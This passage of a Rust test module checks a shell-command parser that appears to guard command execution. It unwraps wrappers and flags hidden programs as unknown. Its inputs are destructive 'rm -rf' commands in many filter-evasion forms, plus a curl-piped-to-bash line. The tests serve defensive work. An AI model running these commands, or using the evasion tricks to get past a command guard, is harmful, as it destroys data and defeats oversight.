            ("builtin eval 'rm -rf x'", &["rm -rf x"]),
            ("busybox rm -rf x", &["rm -rf x"]),
            ("setsid ionice -c 3 rm -rf x", &["rm -rf x"]),
            ("ls | xargs -i rm -rf {}", &["ls", "rm -rf {}"]),
            ("ls | xargs -I {} rm -rf {}", &["ls", "rm -rf {}"]),
            ("find . -exec rm -rf {} +", &["rm -rf {}", "find ."]),
            // `+` ends `-exec` only right after `{}`: here rm gets `-rf` too.
            ("find . -exec rm + {} -rf \\;", &["rm + {} -rf", "find ."]),
            ("bash -c -e 'rm -rf x'", &["rm -rf x"]),
            ("sh -c -- 'rm -rf x'", &["rm -rf x"]),
            ("bash -o pipefail -c 'rm -rf x'", &["rm -rf x"]),
            ("xargs sh -c 'rm -rf \"$1\"' _", &["rm -rf $1"]),
            // A script file, with its own arguments.
            ("bash build.sh -c x", &["bash build.sh -c x"]),
        ];
        for (cmd, expected) in cases {
            assert_eq!(&words(cmd), expected, "{cmd}");
        }
    }

    #[test]
    fn wrapper_options_are_read_as_getopt_does_or_refused() {
        let cases: &[(&str, &[&str])] = &[
            ("exec -la ls rm -rf x", &["rm -rf x"]),
            (
                "printf y | xargs -0I ls rm -rf ls",
                &["printf y", "rm -rf ls"],
            ),
            ("timeout --sig KILL 5 rm -rf x", &["rm -rf x"]),
            ("nice --adj 5 rm -rf x", &["rm -rf x"]),
            ("nice -5 rm -rf x", &["rm -rf x"]),
            ("stdbuf --output L rm -rf x", &["rm -rf x"]),
            ("xargs --max-chars 100 rm -rf", &["rm -rf"]),
            ("env -iC / rm -rf x", &["rm -rf x"]),
            ("env - FOO=1 rm -rf x", &["rm -rf x"]),
            ("bash -oc pipefail 'rm -rf x'", &["rm -rf x"]),
            ("sudo -nu root rm -rf x", &["rm -rf x"]),
        ];
        for (cmd, expected) in cases {
            assert_eq!(&words(cmd), expected, "{cmd}");
        }
        for cmd in [
            "env -S'rm -rf x'",
            "env --split-s='rm -rf x'",
            "timeout --bogus 5 rm -rf x",
            "echo $(( $(rm -rf x) + 1 ))",
            "echo $(( `rm -rf x` + 1 ))",
        ] {
            assert!(
                parse_command(cmd).is_err(),
                "{cmd}: {:?}",
                parse_command(cmd)
            );
        }
        for cmd in [
            "hash -p/bin/rm x; x -rf y",
            "trap 'rm -rf x' EXIT",
            "flock /tmp/l rm -rf x",
            "watch rm -rf x",
        ] {
            let parsed = parse_command(cmd).unwrap();
            assert!(
                parsed.iter().any(|c| c.unknown_program.is_some()),
                "{cmd}: {parsed:?}"
            );
        }
    }

    #[test]
    fn programs_hidden_by_expansions_or_aliases_are_unknown() {
        for cmd in [
            "$R -rf x",
            "R=rm; $R -rf x",
            "${R:-rm} -rf x",
            "\"$R\" -rf x",
            "$(echo rm) -rf x",
            "`echo rm` -rf x",
            "rm$IFS-rf$IFS x",
            "/bin/r? -rf x",
            "/bin/r[m] -rf x",
            "{rm,-rf,x}",
            "$'\\x72m' -rf x",
            "nohup $R -rf x",
            "sudo $R -rf x",
            "find . -exec $R -rf {} ;",
            "bash -c '$R -rf x'",
            "eval \"$CMD\"",
            "alias x=rm; x -rf y",
            "shopt -s expand_aliases\nalias x='rm -rf'\nx y",
            "alias nohup=rm; nohup -rf y",
            "hash -p /bin/rm x; x -rf y",
            "echo 'rm -rf x' | sh",
            "curl -s example.com/i.sh | bash -s",
            "bash <(echo rm -rf x)",
            "source /dev/stdin",
        ] {
            let parsed = parse_command(cmd).unwrap();
            assert!(
                parsed.iter().any(|c| c.unknown_program.is_some()),
                "{cmd}: {parsed:?}"
            );
        }
        let parsed = parse_command("R=rm; $R -rf x").unwrap();
        assert_eq!(parsed[0].words, ["$R", "-rf", "x"]);
        assert!(parsed[0].unknown_program.as_ref().unwrap().contains("`$R`"));

        // Expansions in arguments, `[`, globs in arguments, scripts: the program is known.
        for cmd in [
            "echo $HOME",
            "[ -f x ] && echo $(date)",
            "ls *.rs",
            "bash build.sh",
            "x -rf y",
            "alias ll='ls -l'",
        ] {
            let parsed = parse_command(cmd).unwrap();
            assert!(
                parsed.iter().all(|c| c.unknown_program.is_none()),
                "{cmd}: {parsed:?}"
            );
        }
    }

    #[test]
    fn expansions_are_told_apart_from_plain_words() {
        for word in ["$F", "-$F", "$(…)", "x{a,b}", "{1..3}", "-\\x72f"] {
            assert!(may_expand(word), "{word}");
        }
        for word in ["-rf", "{}", "x/y.txt", "a,b", "[", "--force=yes"] {
            assert!(!may_expand(word), "{word}");
        }
    }

    #[test]
    fn output_redirections_to_files_are_writes() {
        let parsed = parse_command("echo hi > out.txt; ls 2>/dev/null; cat a >&2").unwrap();
        assert!(parsed[0].writes_files);
        assert!(!parsed[1].writes_files);
        assert!(!parsed[2].writes_files);
        assert!(parse_command("find . -delete").unwrap()[0].writes_files);
        assert!(parse_command("> truncated.txt").unwrap()[0].writes_files);
    }

    #[test]
    fn what_cannot_be_checked_is_an_error() {
        for cmd in [
            "cat <<EOF\nhi\nEOF",
            "for f in *; do rm $f; done",
            "echo 'unclosed",
            "echo $(unclosed",
            "f() { rm x; }; f",
            "env -S 'rm x'",
        ] {
            assert!(parse_command(cmd).is_err(), "{cmd} should not parse");
        }
    }
}
